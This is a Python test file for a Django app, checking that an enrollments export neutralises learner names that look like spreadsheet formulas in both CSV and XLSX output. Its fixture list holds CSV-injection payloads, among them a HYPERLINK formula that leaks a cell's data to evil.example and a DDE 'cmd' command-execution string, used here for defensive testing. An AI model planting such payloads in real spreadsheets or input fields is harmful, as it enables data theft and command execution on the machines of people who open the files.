"""Security finding 16: the Enrollments export cannot carry spreadsheet formulas."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from culturedegree.models import User
from culturedegree.spreadsheets import neutralise_formula
from learning.journey.enrollment import enroll

from .factories import staff_user
from .journey_helpers import make_learner

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def admin_client(client):
    client.force_login(staff_user("admin@example.com", superuser=True))
    return client


@pytest.fixture
def learners(tree):
    for n, name in enumerate(FORMULAS):
        enroll(learner=make_learner(f"l{n}@example.com", name=name), program=tree.program)
    enroll(learner=make_learner("plain@example.com", name="Ada Lovelace"), program=tree.program)
    return User.objects.filter(email__endswith="@example.com").exclude(is_staff=True)


def exported(admin_client, export_format: str):
    response = admin_client.get(reverse("enrollments:index"), {"export": export_format})
    assert response.status_code == 200
    if export_format == "csv":
        text = b"".join(response.streaming_content).decode()
        return list(csv.reader(io.StringIO(text, newline="")))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_learner_names_that_look_like_formulas_are_exported_as_text(
    admin_client, learners, export_format
):
    rows = exported(admin_client, export_format)
    names = {row[0] for row in rows[1:]}
    expected = {"'" + formula for formula in FORMULAS} | {"Ada Lovelace"}
    if export_format == "xlsx":
        # Whether a cell keeps a bare \r or reads back as \n depends on openpyxl's XML
        # library (lxml escapes it, the standard library does not); either is the same text.
        names = {name.replace("\r", "\n") for name in names}
        expected = {name.replace("\r", "\n") for name in expected}
    assert names == expected


def test_only_text_is_changed():
    assert neutralise_formula(-3) == -3
    assert neutralise_formula("Ada -3") == "Ada -3"
    assert neutralise_formula("") == ""
